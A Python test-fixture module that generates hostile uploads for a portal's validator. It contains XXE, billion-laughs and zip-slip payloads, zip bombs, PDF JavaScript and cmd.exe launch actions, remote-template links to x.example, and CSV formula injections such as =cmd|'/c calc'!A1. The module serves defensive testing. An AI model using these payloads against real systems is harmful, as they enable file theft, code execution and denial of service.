"""Documents that mean harm."""

import zlib
from collections.abc import Iterator
from functools import cache

from tests.portal.hostile import MARK, Hostile
from tests.portal.hostile.archives import zipped
from tests.portal.hostile.pictures import NAMES, SCRIPT
from tests.search.test_editors import small_pdf

OFFICE = {
    "docx": {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document xmlns:w='urn:w'/>"},
    "xlsx": {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
    "pptx": {"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p:presentation xmlns:p='urn:p'/>"},
    "odt": {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b"<office:document xmlns:office='urn:o'/>",
    },
}
BODY = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/slides/slide1.xml", "odt": "content.xml"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
ELSEWHERE = (
    b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="http://x.example/%s" TargetMode="External"/></Relationships>'
)
ENTITY = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
LAUGHS = (
    b"<!DOCTYPE x ["
    + b"".join(
        b'<!ENTITY e%d "%s">' % (number, b"&e%d;" % (number - 1) * 10 if number else b"ha") for number in range(10)
    )
    + b"]><x>&e9;</x>"
)


PREFIXED = (
    b"<r:Relationships xmlns:r='urn:r'><r:Relationship Target='http://x.example/?a>b' TargetMode='External'"
    b" Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate'/></r:Relationships>"
)


def relations() -> Iterator[Hostile]:
    """Office files that load something, each written in another way, and one that is not to be read to its end."""
    wide = b'<?xml version="1.0" encoding="UTF-16"?>'.decode() + (ELSEWHERE % (b"frame", b"x")).decode()
    for name, part in {
        "prefixed": PREFIXED,
        "wide": wide.encode("utf-16"),
        "unending": b"<Relationship " * 30_000,
        "large": b"<Relationships>" + b" " * 5_000_000 + b"</Relationships>",
    }.items():
        yield Hostile(f"{name}-relations.docx", zipped(OFFICE["docx"] | {"word/_rels/document.xml.rels": part}))


def office(kind: str, *, flags: int = 0, external: int = 0o600, **more: bytes) -> bytes:
    """An office file with more parts; two underscores in a name are a slash, one in front of an extension a dot."""
    parts = {name.replace("__", "/").replace("_dot_", "."): content for name, content in more.items()}
    return zipped(OFFICE[kind] | parts, flags=flags, external=external)


def office_files() -> Iterator[Hostile]:
    """Each kind of office file, with each kind of harm."""
    for kind, body in BODY.items():
        yield Hostile(f"macro.{kind}", office(kind, word__vbaProject_dot_bin=MARK))
        yield Hostile(f"basic.{kind}", office(kind, Basic__Standard__Module1_dot_xml=MARK))
        yield Hostile(f"ole.{kind}", OLE)
        yield Hostile(f"locked.{kind}", office(kind, flags=1))
        yield Hostile(f"links.{kind}", office(kind, external=0o120777))
        yield Hostile(f"cut.{kind}", office(kind)[:-30])
        yield Hostile(f"plain.{kind}", zipped({"a.txt": b"a"}))
        yield Hostile(f"pdf.{kind}", small_pdf("een pdf"))
        yield Hostile(f"html.{kind}", SCRIPT)
        yield Hostile(f"empty.{kind}", b"")
        yield Hostile(f"up.{kind}", zipped(OFFICE[kind] | {"../../etc/cron.d/x": MARK}))
        yield Hostile(f"drive.{kind}", zipped(OFFICE[kind] | {"C:\\x.exe": MARK}))
        yield Hostile(f"bomb.{kind}", zipped(OFFICE[kind] | {f"x{number}": b"\0" * 80_000_000 for number in range(4)}))
        yield Hostile(f"many.{kind}", zipped(OFFICE[kind] | {f"x{number}": b"" for number in range(6_000)}))
        yield Hostile(f"entity.{kind}", zipped(OFFICE[kind] | {body: ENTITY}), refused=False)
        yield Hostile(f"laughs.{kind}", zipped(OFFICE[kind] | {body: LAUGHS}), refused=False)
        yield Hostile(
            f"nested.{kind}", zipped(OFFICE[kind] | {"a.zip": zipped({"b.zip": zipped({"c": MARK})})}), refused=False
        )
    for what in (b"attachedTemplate", b"oleObject", b"frame"):
        rels = {"word/_rels/settings.xml.rels": ELSEWHERE % (what, MARK)}
        yield Hostile(f"{what.decode()}.docx", zipped(OFFICE["docx"] | rels))
    yield Hostile(
        "link.docx", zipped(OFFICE["docx"] | {"word/_rels/a.rels": ELSEWHERE % (b"hyperlink", b"a")}), refused=False
    )
    yield Hostile("activex.docx", zipped(OFFICE["docx"] | {"word/activeX/activeX1.xml": MARK}))
    yield Hostile("old-macro.xlsx", zipped(OFFICE["xlsx"] | {"xl/macrosheets/sheet1.xml": MARK}))
    yield Hostile(
        "printer.xlsx", zipped(OFFICE["xlsx"] | {"xl/printerSettings/printerSettings1.bin": b"x"}), refused=False
    )
    locked = {"META-INF/manifest.xml": b"<manifest:encryption-data/>"}
    yield Hostile("password.odt", zipped(OFFICE["odt"] | locked))
    yield Hostile("before.docx", SCRIPT + office("docx"))
    for extension in ("docm", "xlsm", "dotm", "doc", "xls", "ppt", "zip", "html", "exe", "svg", "js", "xhtml", "hta"):
        yield Hostile(f"kind.{extension}", office("docx"))


def pdf_with(*objects: bytes) -> bytes:
    """A page, and objects before it that nothing on it needs."""
    head, page = b"%PDF-1.7\n", small_pdf("tekst")
    return head + b"".join(b"%d 0 obj\n%s\nendobj\n" % (90 + number, one) for number, one in enumerate(objects)) + page


def packed_objects(objects: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    packed = zlib.compress(b"1 0 " + objects)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream" % (
        filters,
        len(packed),
        packed,
    )


def pdfs() -> Iterator[Hostile]:
    """Files that do something by themselves, or that nobody can read to their end."""
    for name, action in {
        "javascript": b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "written": b"<< /S /J#61v#61Script /JS (app.alert\\(1\\)) >>",
        "launch": b"<< /S /Launch /F (cmd.exe) >>",
        "embedded": b"<< /Type /Filespec /EF << /F 91 0 R >> /EmbeddedFiles 92 0 R >>",
        "media": b"<< /Subtype /RichMedia >>",
        "form": b"<< /S /SubmitForm /F (http://x.example) >>",
        "import": b"<< /S /ImportData /F (a.fdf) >>",
        "xfa": b"<< /XFA [(a) 91 0 R] >>",
        "elsewhere": b"<< /S /GoToE /F (a.pdf) >>",
    }.items():
        yield Hostile(f"{name}.pdf", pdf_with(action))
        yield Hostile(f"packed-{name}.pdf", pdf_with(packed_objects(action)))
    yield Hostile(
        "filters.pdf", pdf_with(packed_objects(b"<<>>", b"[/ASCIIHexDecode /LZWDecode]").replace(b"x\x9c", b"zz"))
    )
    yield Hostile("named.pdf", small_pdf("tekst") + b"/ObjStm " * 300_000, refused=False)
    yield Hostile("unending.pdf", small_pdf("tekst") + b"/ObjStm\nstream\n1 0 " * 100_000)
    yield Hostile("objects.pdf", pdf_with(packed_objects(b"\0" * 70_000_000)))
    yield Hostile("protected.pdf", pdf_with(b"<< /Encrypt 9 0 R >>"))
    yield Hostile("before.pdf", SCRIPT + small_pdf("tekst"))
    yield Hostile("empty.pdf", b"")
    yield Hostile("zip.pdf", zipped({"a": b"a"}))
    yield Hostile("after.pdf", small_pdf("tekst") + zipped({"a.js": MARK}), refused=False)
    yield Hostile("half.pdf", small_pdf("tekst" * 50)[:300], refused=False)
    yield Hostile("huge.pdf", small_pdf("tekst").replace(b"612 792", b"9e9 9e9"), refused=False)
    yield Hostile("ring.pdf", small_pdf("tekst").replace(b"[3 0 R]", b"[2 0 R]"), refused=False)
    yield Hostile(
        "pages.pdf",
        small_pdf("tekst").replace(b"[3 0 R] /Count 1", b"[" + b"3 0 R " * 200_000 + b"] /Count 200000"),
        refused=False,
    )
    stream = zlib.compress(b"(a) Tj " * 20_000_000, 9)
    bomb = b"<< /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(stream), stream)
    yield Hostile(
        "stream.pdf",
        small_pdf("tekst").replace(b"/Contents 4 0 R", b"/Contents 90 0 R") + b"90 0 obj\n" + bomb + b"\nendobj\n",
        refused=False,
    )


def texts() -> Iterator[Hostile]:
    """Tables that calculate, and text that is something else."""
    for number, cell in enumerate(
        (
            "=cmd|'/c calc'!A1",
            '=HYPERLINK("http://x.example")',
            "@SUM(1+1)",
            "+cmd|'/c calc'!A1",
            "+cmd|'/c a,b'!A1",
            "-x|calc!A1",
            '-IMPORTXML("x")',
            "= 1+1",
            "=1+1",
        )
    ):
        yield Hostile(f"formula-{number}.csv", f"naam;waarde\r\na;{cell}\r\n".encode())
        yield Hostile(f"quoted-{number}.csv", 'naam,waarde\n"{}",b\n'.format(cell.replace('"', '""')).encode())
    yield Hostile("wide.csv", "naam;=1+1".encode("utf-16"))
    yield Hostile("phone.csv", b"naam;+31 (0)30 123 45 67;-5;- punt;@academietien\r\n", refused=False)
    yield Hostile("html.csv", SCRIPT, refused=False)
    yield Hostile("html.txt", b"<!doctype html>" + SCRIPT, refused=False)
    yield Hostile("svg.txt", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', refused=False)
    yield Hostile("line.txt", b"a" * 5_000_000, refused=False)
    yield Hostile("one-cell.csv", b'"' + b"a" * 5_000_000, refused=False)
    yield Hostile("separators.csv", b";" * 3_000_000, refused=False)
    yield Hostile("cells.csv", b";+|" * 100_000, refused=False)
    yield Hostile("program.txt", b"MZ\x90\0" + bytes(range(256)) * 20)
    yield Hostile("ole.csv", OLE + bytes(range(1, 256)) * 20)
    for name in NAMES:
        yield Hostile(f"{name}.txt", b"tekst", refused=False)
    yield Hostile("verslag.txt.exe", b"tekst")
    yield Hostile("verslag.exe.txt", b"tekst", refused=False)
    yield Hostile("geen-naam", b"tekst")


@cache
def every_document() -> list[Hostile]:
    """All of them; made when a test first asks, for it takes seconds."""
    return [*office_files(), *relations(), *pdfs(), *texts()]
